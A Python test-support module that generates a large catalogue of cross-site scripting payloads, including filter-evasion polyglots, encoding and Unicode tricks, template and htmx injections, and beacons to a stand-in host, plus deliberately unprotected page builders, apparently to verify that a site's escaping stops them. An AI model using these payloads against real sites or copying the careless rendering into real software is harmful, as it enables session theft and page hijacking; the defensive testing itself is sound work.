"""Texts that run as script wherever something forgets to protect the page, each in its own way.

Each calls or sets `ran` with its own number, opens a dialog with it, or asks the host below for
it. `unprotected` builds the careless page in which a payload does run: so it is known that what
does not run on a page of the site was stopped there. Nothing here knows of the site.
"""

import html
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from itertools import product
from urllib.parse import quote, unquote

from django.template import Context, Engine
from markdown_it import MarkdownIt

# Nobody answers there: a request to it is as bad as a script that runs.
OUTSIDE = "payload.invalid"
# Without spaces, quotes and angle brackets, so that they stand in every kind of attribute.
CALLS = (
    "ran(№)", "ran=№", "top.ran(№)", "self.ran(№)", "[№].map(ran)", "ran?.(№)", "window.ran=№",
    "void(ran(№))", "ran(-(-№))", "setTimeout(ran,0,№)", "globalThis.ran(№)",
)  # fmt: skip
# In front of the number by which a page shows which payload of which field stands on it.
TAG = re.compile(r"//([a-z]{2})(\d+)")
# What they leave open would hide from a careless page the payloads that come after them.
OPENS = re.compile(r"<(!|title|textarea|style|xmp|plaintext|noscript|template|select|iframe)", re.I)

# Where a window of its own, or what stands around it, leaves room for the plainest call alone.
PLAIN = re.compile(
    r"data:text/html|data:image/svg|data:application|j[sS]?[^ ]*script:|js:|throw|\[§\]\]|`|%0a"
    r"|\*<img|\[<svg|!\[|ſ|loaD|lower"
)


@dataclass(frozen=True)
class Payload:
    """`place`: the kind of careless page that runs it, a name of PLACES."""

    number: int
    text: str
    place: str

    def tagged(self, field: str) -> str:
        """With the two letters of a field behind it, in a comment for scripts."""
        return f"{self.text}//{field}{self.number}"


Drawn = Iterator[tuple[str, str]]
HANDLED = (
    "click", "dblclick", "mouseover", "mouseenter", "mousedown", "mouseup", "mousemove", "focus",
    "blur", "focusin", "keydown", "keyup", "input", "change", "submit", "reset", "invalid",
    "select", "scroll", "wheel", "copy", "cut", "paste", "drag", "dragstart", "drop", "toggle",
    "beforetoggle", "pointerover", "pointerdown", "pointerup", "touchstart", "animationstart",
    "pointercancel", "contextmenu", "auxclick", "gotpointercapture", "cancel", "error", "load",
)  # fmt: skip
BY_ITSELF = (
    "<img src=x: onerror=§>", "<image src=x: onerror=§>",
    "<svg onload=§>", "<svg/onload=§>", "<svg\nonload\n=\n§\n>", "<sVg\tOnLoAd=§//>",
    "<svg><svg onload=§>", "<body onload=§>", "<body onpageshow=§>", "<style onload=§></style>",
    "<video src=x: onerror=§></video>", "<video><source onerror=§ src=x:></video>",
    "<audio src=x: onerror=§></audio>", "<input autofocus onfocus=§>",
    "<select autofocus onfocus=§></select>", "<textarea autofocus onfocus=§></textarea>",
    "<button autofocus onfocus=§>x</button>", "<a href=# autofocus onfocus=§>x</a>",
    "<i tabindex=1 autofocus onfocus=§>x</i>", "<x contenteditable autofocus onfocus=§>x</x>",
    "<details open ontoggle=§>x</details>", "<iframe onload=§></iframe>",
    "<iframe src=javascript:§></iframe>", "<object data=x: onerror=§></object>",
    "<input type=image src=x: onerror=§>", "<link rel=stylesheet href=x:x onerror=§>",
    "<link rel=stylesheet href=data:text/css, onload=§>", "<script src=x: onerror=§></script>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=§>",
    "<track default onerror=§ src=x:>",
    "<img src=x onerror=§ //",
)  # fmt: skip
SCRIPTS = (
    "<script>§</script>", "<SCRIPT>§</SCRIPT>", "<ScRiPt >§</sCrIpT >", "<script/x>§</script/y>",
    "<script\n>§</script\n>", "<script\t>§</script\f>", "<script type=module>§</script>",
    "<script type=text/javascript>§</script>", "<script language=javascript>§</script>",
    "<script x='>'>§</script>", "<script async defer>§</script>", "<script>/*x*/§/**/</script>",
    "<script><!--\n§\n--></script>", "<svg><script>§</script>", "<svg><script>//&#10;§</script>",
    "<svg><script href=data:,§ />", "<script src=data:,§></script>", "<x><script>§</script></x>",
    "<script src=data:text/javascript,§></script>", "<math><mtext><script>§</script>",
    f"<script src=//{OUTSIDE}/№></script>", f"<script src=https:{OUTSIDE}/№></script>",
    f"<script src=\\\\{OUTSIDE}\\№></script>", "<script>eval('§')</script>",
    "<b><script>§</script>",
    "<script>Function('§')()</script>", "<script>setTimeout('§')</script>", "<<script>§</script>",
    "<script>import('data:text/javascript,§')</script>", "<script>{§}</script>",
    "<script>self['ran'](№)</script>", "<script>ran`№`</script>", "<script>throw §</script>",
    "<script>\\u0072an(№)</script>", "<script>onerror=ran;throw №</script>",
    "<script nonce=x>§</script>", "<script>new Image().src='//" + OUTSIDE + "/№'</script>",
)  # fmt: skip
CLOSERS = (
    "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</xmp>", "</iframe>",
    "</noembed>", "</noframes>", "</template>", "</select>", "</button></form>", "</svg></math>",
    "-->", "--!>", "]]>", "</script></textarea></title></style>-->", "</a></p></li></td></table>",
)  # fmt: skip
ADDRESSES = (
    "javascript:§", "JaVaScRiPt:§", " javascript:§", "\x01javascript:§", "java\tscript:§",
    "java\nscript:§", "javascript\t:§", "javascript://%0a§", "javascript:%72an(№)",
    "\tjavascript:§",
    "javascript:/*x*/§", "javascript&#58;§", "&#106;avascript:§", "&#x6A;avascript:§",
    "javascript&colon;§", "java&Tab;script:§", "java&NewLine;script:§", "javascript:'x';§",
    "javascript:void 0;§", f"//{OUTSIDE}/№", f"https://{OUTSIDE}/№", f"\\\\{OUTSIDE}\\№",
)  # fmt: skip
FRAMED = (
    "data:text/html,<script>§</script>", "DATA:text/html,<svg onload=§>",
    "data:text/html;charset=utf-8,<img src=x: onerror=§>", "data:image/svg+xml,<svg "
    "xmlns='http://www.w3.org/2000/svg' onload='§'/>", "data:text/html,%3Csvg onload=§%3E",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'>"
    "<script>§</script></html>",
)  # fmt: skip
DRAWN = (
    "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set onbegin=§ attributeName=x>",
    "<svg><animateTransform onbegin=§ attributeName=transform>", "<svg><image href=x: onerror=§>",
    "<svg><a href=javascript:§><text y=20>x</text></a>", "<svg><desc><img src=x: onerror=§>",
    "<svg><a xlink:href=javascript:§><text y=20>x</text></a>", "<svg><title><img src=x: onerror=§>",
    "<svg><foreignObject><img src=x: onerror=§>", "<math><mtext><img src=x: onerror=§>",
    "<math><mi><svg onload=§>", "<math><annotation-xml encoding=text/html><img src=x: onerror=§>",
    "<svg><a><animate attributeName=href values=javascript:§ /><text y=20>x</text></a>",
    "<math><mtext><table><mglyph><svg><mtext><img src=x: onerror=§>",
)  # fmt: skip
FORMS = (
    "<form action=javascript:§><button>x</button></form>",
    "<form><button formaction=javascript:§>x",
    "<form><input type=submit formaction=javascript:§>", "<form id=f№></form><button form=f№ "
    "formaction=javascript:§>x</button>", "<form><input type=image formaction=javascript:§>",
    "<a href=javascript:§>x</a>", "<a href=' javascript:§'>x</a>",
    "<map><area href=javascript:§>", f"<base href=//{OUTSIDE}/№/><img src=x>",
    f"<meta http-equiv=refresh content=0;url=//{OUTSIDE}/№>", f"<img src=//{OUTSIDE}/№>",
    "<iframe srcdoc='&lt;script&gt;§&lt;/script&gt;'></iframe>", f"<iframe src=//{OUTSIDE}/№>",
    "<iframe srcdoc=&lt;svg/onload=§&gt;></iframe>", "<iframe src='data:text/html,<svg/onload=§>'>",
    "<object data='data:text/html,<svg/onload=§>'>", "<embed src='data:text/html,<svg/onload=§>'>",
    "<div><template shadowrootmode=open><script>§</script></template></div>",
    f"<link rel=stylesheet href=//{OUTSIDE}/№>", f"<style>@import'//{OUTSIDE}/№'</style>",
    f"<video poster=//{OUTSIDE}/№>", f"<table background=//{OUTSIDE}/№><tr><td>x</table>",
    f"<style>*{{background:url(//{OUTSIDE}/№)}}</style>", f"<input type=image src=//{OUTSIDE}/№>",
    f"<a ping=//{OUTSIDE}/№ href=#>x</a>", f"<form action=//{OUTSIDE}/№><button>x</button></form>",
)  # fmt: skip
STYLES = (
    f"background:url(//{OUTSIDE}/№)", f"background:url('https://{OUTSIDE}/№')",
    f"list-style:url(//{OUTSIDE}/№) inside;display:list-item", f"content:url(//{OUTSIDE}/№)",
    f"border-image:url(//{OUTSIDE}/№) 1", f"b\\61 ckground:\\75rl(//{OUTSIDE}/№)",
    f"color:red;background:/**/url(//{OUTSIDE}/№)", f"--x:url(//{OUTSIDE}/№);background:var(--x)",
)  # fmt: skip
TEMPLATES = (
    "{{ '<svg onload=§>'|safe }}", "{{ '&lt;svg onload=§>'|safe }}<svg onload=§>",
    "{% autoescape off %}{{ '<img src=x: onerror=§>' }}{% endautoescape %}",
    "{% filter lower %}<script>§</script>{% endfilter %}", "{# #}<svg onload=§>{# #}",
    "{% verbatim %}<svg onload=§>{% endverbatim %}", "{% comment %}{% endcomment %}<svg onload=§>",
    "{% if 1 %}<script>§</script>{% endif %}", "{% templatetag openbrace %}<img src=x: onerror=§>",
    "{% with a='<svg onload=§>' %}{{ a|safe }}{% endwith %}",
    "{% spaceless %}<svg onload=§>{% endspaceless %}",
    "{% firstof '' '<svg onload=§>'|safe %}",
    "{{ '%3Csvg onload=§>'|safe }}{{ '<svg onload=§>'|safe }}",
)  # fmt: skip
BRACES = (
    "{{§}}", "${§}", "#{§}", "<%=§%>", "[[§]]", "{{constructor.constructor('§')()}}", "{{= § }}",
    "{{[].pop.constructor('§')()}}", "{%=§%}", "@(§)",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:§)", "[x](<javascript:§>)", "[x](JaVaScRiPt:§ 'x')", "<javascript:§>",
    "[x][y]\n\n[y]: javascript:§", "*<img src=x: onerror=§>*", "> <svg onload=§>",
    "# <svg onload=§>", "- <img src=x: onerror=§>", "[x](java&#115;cript:§)",
    "**<script>§</script>**",
    "[<svg onload=§>](x)", "![x](x)<img src=x: onerror=§>", "`x`<svg onload=§>",
    "<!-- --><svg onload=§>",
    "[![x](x)](javascript:§)", f"![x](//{OUTSIDE}/№)", "a  \n<iframe src=javascript:§></iframe>",
)  # fmt: skip
HTMX = (
    "<b hx-on:click=§>x</b>", "<b data-hx-on:click=§>x</b>", "<b hx-on-click=§>x</b>",
    "<b hx-on::before-request=§ hx-get=# hx-trigger=load>x</b>", "<b hx-on:mouseover=§>x</b>",
    "<b hx-get=# hx-trigger=load[§]>x</b>",
    "<b hx-get=# hx-vals=js:{a:ran(№)} hx-trigger=load>x</b>",
    "<b hx-post=# hx-vals=javascript:{a:ran(№)} hx-trigger=load>x</b>", "<b hx-on:focus=§>x</b>",
    "<b hx-get=# hx-headers=js:{a:ran(№)} hx-trigger=load>x</b>",
    "<b data-hx-get=# data-hx-trigger=load[§]>x",
    "<b hx-get=# hx-vars=a:ran(№) hx-trigger=load>x</b>", "<b hx-get=# hx-trigger=load[ran(№)]>x",
)  # fmt: skip
IN_SCRIPT = {
    "script double": ('";§;"', '"-(§)-"', '"+(§)+"', '"\n§\n"', '",§,"', '"||(§)||"', '"/**/,§//'),
    "script single": ("';§;'", "'-(§)-'", "'+(§)+'", "',§,'", "'||(§)||'", "',§//"),
    "script grave": ("${§}", "`;§;`", "`+(§)+`", "`,§,`", "${[§]}", "x${§}y", "`-(§)//"),
}  # fmt: skip
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=§ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=§//>\\x3e",
    "'\">><marquee><img src=x: onerror=§></marquee>\"></plaintext\\></|><plaintext/onmouseover=§>",
    "\"'`--></style></script><svg/onload=§>",
    "javascript:\"/*'/*`/*--></noscript></title></textarea>"
    "</style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=§//>",
    "'\"></title></textarea></style></script>--><script>§</script>", "'`\"><\x3csvg/onload=§>",
    "*/§/*</script>'\"><svg onload=§>", "\">'><details open ontoggle=§>",
    "{{7*7}}${7*7}\"'><svg onload=§>",
    "%22%27><svg onload=§>", "&quot;&#39;\"'><img src=x: onerror=§>", "\\\"\\'><svg onload=§>",
)  # fmt: skip
DISGUISED = (
    ("＜script＞§＜/script＞", "composed"), ("﹤svg onload=§﹥", "composed"),
    ("＜img src=x: onerror=§＞", "composed"),
    ("<ſcript>§</ſcript>", "folded"), ("<ſvg onload=§>", "folded"), ("<body onloaD=§>", "folded"),
    ("<sc\u200bript>§</sc\u200bript>", "shown"), ("<s\u00advg onload=§>", "shown"),
    ("<im\ufeffg src=x: onerror=§>", "shown"), ("\u202e<svg onload=§>\u202c", "text"),
    ("\u2028<svg onload=§>\u2029", "text"), ("é\u0301<svg onload=§>", "text"),
    ("+ADw-script+AD4-§+ADw-/script+AD4-", "seven bits"), ("+ADw-svg onload=§+AD4-", "seven bits"),
    ("<scr<script>ipt>§</scr</script>ipt>", "stripped"), ("<s<script>vg onload=§>", "stripped"),
)  # fmt: skip


def _drawn() -> Drawn:
    """Each text with § for the call and № for its number, and the place in which it runs."""
    for text in (*SCRIPTS, *BY_ITSELF, *DRAWN, *FORMS):
        yield text, "text"
    elements = ("<b on{0}=§>x</b>", '<p ON{0}="§">x</p>', "<a/on{0}='§'>x</a>")
    for number, name in enumerate(HANDLED):
        yield elements[number % 3].format(name), "text"
        yield f'" on{name}=§ x="', "double"
        yield f"' on{name}=§ x='", "single"
    for mark, place in (('"', "double"), ("'", "single"), ("`", "grave"), (" ", "bare")):
        for text in ("autofocus onfocus=§ x=", "onmouseover=§ style=display:block x="):
            yield f"{mark} {text}{mark}", place
        for text in (SCRIPTS[0], *BY_ITSELF[:6], DRAWN[0]):
            yield f"{mark}>{text}", place
    for closer, text in product(CLOSERS, (SCRIPTS[0], "<svg onload=§>", "<img src=x: onerror=§>")):
        yield f"{closer}{text}", _around(closer)
    yield from ((text, "address") for text in ADDRESSES)
    yield from ((text, "frame") for text in FRAMED)
    yield from ((text, "styled") for text in STYLES)
    yield from ((text, "template") for text in TEMPLATES)
    yield from ((text, "braces") for text in BRACES)
    yield from ((text, "markdown") for text in MARKDOWN)
    yield from ((text, "htmx") for text in HTMX)
    yield from ((text, place) for place, every in IN_SCRIPT.items() for text in every)
    yield from ((text, "text") for text in POLYGLOTS)
    yield from DISGUISED
    for text in (
        SCRIPTS[0],
        *BY_ITSELF[:4],
        "<a href='javascript:§'>x</a>",
        "<iframe src=javascript:§>",
    ):
        yield html.escape(text), "unescaped"
        yield html.escape(html.escape(text)), "unescaped twice"
        yield (
            "".join(f"&#{ord(letter)};" if letter in "<>'" else letter for letter in text),
            "unescaped",
        )
        yield text.replace("<", "&lt").replace(">", "&#x3e"), "unescaped"
        yield quote(text).replace("%C2%A7", "§"), "unquoted"
        yield quote(quote(text)).replace("%25C2%25A7", "§"), "unquoted twice"
        yield text.replace("<", "\\u003c").replace(">", "\\u003E"), "json"
        yield text.replace("<", "\\x3c").replace(">", "\\x3e"), "script string"


def _around(closer: str) -> str:
    """What the closer closes: the careless page writes its text inside of that."""
    if closer.startswith("--"):
        return "comment"
    first = re.match(r"</(title|textarea|style|script|noscript|xmp|noembed|noframes)>", closer)
    return first[1] if first and closer == first[0] else "text"


@cache
def payloads() -> tuple[Payload, ...]:
    """All of them, without doubles; the number of each is its place from 1."""
    found = dict.fromkeys(_drawn())
    return tuple(
        Payload(number, _numbered(text, number), place)
        for number, (text, place) in enumerate(found, start=1)
    )


def _numbered(text: str, number: int) -> str:
    call = "alert(№)" if number % 24 == 0 else CALLS[number % len(CALLS)]
    if PLAIN.search(text):
        call = "ran(№)"
    return text.replace("§", call).replace("№", str(number))


@cache
def packs(length: int, field: str) -> tuple[str, ...]:
    """Texts of at most so many characters that hold every payload which fits into one."""
    packed: list[str] = []
    for text in _in_order(length, field):
        if packed and len(packed[-1]) + 1 + len(text) <= length and not OPENS.search(text):
            packed[-1] += f" {text}"
        else:
            packed.append(text)
    return tuple(packed)


@cache
def everything(field: str) -> str:
    """One text that holds all of them."""
    return "\n".join(_in_order(10**9, field))


def pieces(count: int, field: str) -> tuple[str, ...]:
    """All of them in so many texts."""
    every = _in_order(10**9, field)
    return tuple("\n".join(every[at::count]) for at in range(count))


def _in_order(length: int, field: str) -> list[str]:
    tagged = [each.tagged(field) for each in payloads()]
    fitting = [text for text in tagged if len(text) <= length]
    return sorted(fitting, key=lambda text: OPENS.search(text) is not None)


def _as_text(change: Callable[[str], str]) -> Callable[[str], str]:
    """A page that changes its text and then takes it for HTML."""
    return lambda text: f"<body>{change(text)}<p>x</p>"


def _template(text: str) -> str:
    return f"<body>{Engine().from_string(text).render(Context())}"


def _markdown(text: str) -> str:
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return f"<body>{parser.render(text)}"


def _braces(text: str) -> str:
    inner = re.sub(
        r"^(\{\{=?|\$\{|#\{|<%=|\[\[|\{%=|@\()(.*?)(\}\}|\}|%>|\]\]|%\}|\))$", r"\2", text
    )
    return f"<body><script>with({{constructor:Object}}) Function({json.dumps(inner)})()</script>"


def _hidden(text: str) -> str:
    """Without what cannot be seen."""
    return re.sub("[\u00ad\u200b\ufeff]", "", text)


def _in_json(text: str) -> str:
    quoted = text.replace('"', '\\"')
    return json.loads(f'"{quoted}"')


def _in_script(mark: str) -> Callable[[str], str]:
    return lambda text: (
        f"<body><script>function f(){{}};var x={{a:1}};x.a={mark}{text}{mark}</script>"
    )


def _inside(tag: str) -> Callable[[str], str]:
    return lambda text: f"<body><{tag}>{text}</{tag}>"


PLACES: dict[str, Callable[[str], str]] = {
    "text": _as_text(str),
    "double": lambda text: f'<body><input value="{text}">',
    "single": lambda text: f"<body><input value='{text}'>",
    # No browser of today closes an attribute by it.
    "grave": lambda text: f'<body><input value="{text.replace("`", chr(34))}">',
    "bare": lambda text: f"<body><input value=x{text}>",
    "address": lambda text: f'<body><a href="{text}">x</a>',
    "frame": lambda text: f"<body><iframe src='{html.escape(text)}'></iframe>",
    "styled": lambda text: f'<body><b style="{text}">x</b>',
    "template": _template,
    "braces": _braces,
    "markdown": _markdown,
    "htmx": _as_text(str),
    "comment": lambda text: f"<body><!-- {text} -->",
    "composed": _as_text(lambda text: unicodedata.normalize("NFKC", text)),
    "folded": _as_text(str.casefold),
    "shown": _as_text(_hidden),
    "seven bits": _as_text(lambda text: text.encode().decode("utf-7")),
    "stripped": _as_text(lambda text: re.sub("</?script>", "", text)),
    "unescaped": _as_text(html.unescape),
    "unescaped twice": _as_text(lambda text: html.unescape(html.unescape(text))),
    "unquoted": _as_text(unquote),
    "unquoted twice": _as_text(lambda text: unquote(unquote(text))),
    "json": _as_text(_in_json),
    "script string": lambda text: (
        f"<body><script>document.write({json.dumps(text).replace(chr(92) * 2, chr(92))})</script>"
    ),
    "script double": _in_script('"'),
    "script single": _in_script("'"),
    "script grave": _in_script("`"),
} | {
    tag: _inside(tag)
    for tag in ("title", "textarea", "style", "script", "noscript", "xmp", "noembed", "noframes")
}


def unprotected(payload: Payload) -> str:
    """A careless page that the payload runs on."""
    return f"<!doctype html>{PLACES[payload.place](payload.text)}"
